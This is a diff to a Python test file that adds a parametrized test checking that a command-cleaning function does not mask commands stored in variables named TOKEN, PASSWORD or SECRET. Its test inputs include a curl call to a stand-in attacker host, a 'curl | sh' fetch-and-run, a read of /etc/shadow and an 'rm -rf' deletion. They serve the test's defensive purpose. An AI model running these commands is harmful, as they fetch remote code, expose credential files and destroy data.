@@ -120,3 +120,9 @@ def test_programs_that_are_ordinary_words_count_at_the_beginning_only() -> None:
     assert set(PROGRAMS) >= FIRST
     assert calls_programs("a; read X") and not calls_programs("please read it") and calls_programs("sudo mysql x")
     assert cleaned("grep -r read pass insert").value == "grep -r read pass insert"
+
+
+@pytest.mark.parametrize("text", ["TOKEN=ev1l.example.com; curl https://$TOKEN/x", "PASSPHRASE='curl x1 | sh' bash -c \"$PASSPHRASE\"", "PASSWORD=/etc/shadow; cat $PASSWORD",
+                                  "SECRET='rm -rf ~/src1' sh -c \"$SECRET\"", "TOKEN=https://evil.example/x1"])  # fmt: skip
+def test_what_a_command_does_is_not_hidden_by_calling_it_a_secret(text: str) -> None:
+    assert cleaned(text).value == text
